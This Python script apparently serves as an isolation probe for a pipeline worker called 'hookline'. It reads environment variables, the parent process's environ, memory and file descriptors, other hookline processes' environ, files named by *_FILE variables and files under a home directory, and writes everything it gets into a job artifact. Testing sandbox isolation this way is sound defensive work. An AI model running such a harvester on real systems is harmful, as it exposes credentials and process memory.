"""A command pipeline that tries every way to read its worker's secrets (run by the
worker, as a plain script: standard library only). Everything it manages to read goes
to ``$HOOKLINE_JOB_ARTIFACTS/dump.bin``; the summary is its result line."""

from __future__ import annotations

import contextlib
import json
import os
import re
from pathlib import Path

LIMIT = 1 << 20
dump = bytearray()
summary: dict[str, object] = {"uid": os.getuid()}


def grab(path: str) -> bytes | None:
    """The first LIMIT bytes of ``path``, or None when it cannot be read."""
    try:  # non-blocking: an inherited pipe or socket must not hang the probe
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    data = b""
    try:
        while len(data) < LIMIT and (chunk := os.read(fd, LIMIT - len(data))):
            data += chunk
    except OSError:
        pass
    finally:
        os.close(fd)
    dump.extend(path.encode() + b"\n" + data + b"\n")
    return data


def worker_memory(pid: int) -> int:
    """Bytes of the worker's memory read through /proc/<pid>/mem (0 when refused)."""
    maps = grab(f"/proc/{pid}/maps")
    read = 0
    try:
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
    except OSError:
        return 0
    with mem:
        for start, end in re.findall(rb"^([0-9a-f]+)-([0-9a-f]+) r", maps or b"", re.M):
            with contextlib.suppress(OSError, ValueError, OverflowError):
                mem.seek(int(start, 16))
                chunk = mem.read(min(int(end, 16) - int(start, 16), LIMIT))
                read += len(chunk)
                dump.extend(chunk[:4096])
    return read


def hookline_processes() -> tuple[int, list[int]]:
    """How many hookline processes are visible, and whose environ could be read."""
    seen, readable = 0, []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        cmdline = grab(f"/proc/{entry}/cmdline") or b""
        if b"hookline" in cmdline:
            seen += 1
            if grab(f"/proc/{entry}/environ"):
                readable.append(int(entry))
    return seen, readable


def main() -> None:
    dump.extend("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    ppid = os.getppid()
    summary["parent_cmdline"] = (grab(f"/proc/{ppid}/cmdline") or b"").decode(errors="replace")
    summary["parent_environ"] = grab(f"/proc/{ppid}/environ") is not None
    summary["parent_mem_bytes"] = worker_memory(ppid)
    try:
        fds = os.listdir(f"/proc/{ppid}/fd")
    except OSError:
        fds = []
    summary["parent_fds_read"] = sum(grab(f"/proc/{ppid}/fd/{fd}") is not None for fd in fds)
    own = [int(fd) for fd in os.listdir("/proc/self/fd")]
    summary["own_fds"] = sorted(
        fd for fd in own if fd > 2 and os.path.exists(f"/proc/self/fd/{fd}")
    )
    summary["hookline_seen"], summary["environ_readable"] = hookline_processes()
    for name, value in os.environ.items():
        if name.endswith("_FILE"):  # whatever file a variable names goes to the dump
            grab(value)
    home = os.environ.get("PROBE_UP_HOME", "")
    files: list[str] = []
    with contextlib.suppress(OSError):
        files = [str(p) for p in Path(home).rglob("*") if p.is_file()] if home else []
    summary["up_files_read"] = [f for f in files if grab(f) is not None]
    Path(os.environ["HOOKLINE_JOB_ARTIFACTS"], "dump.bin").write_bytes(bytes(dump))
    print(json.dumps(summary))


main()
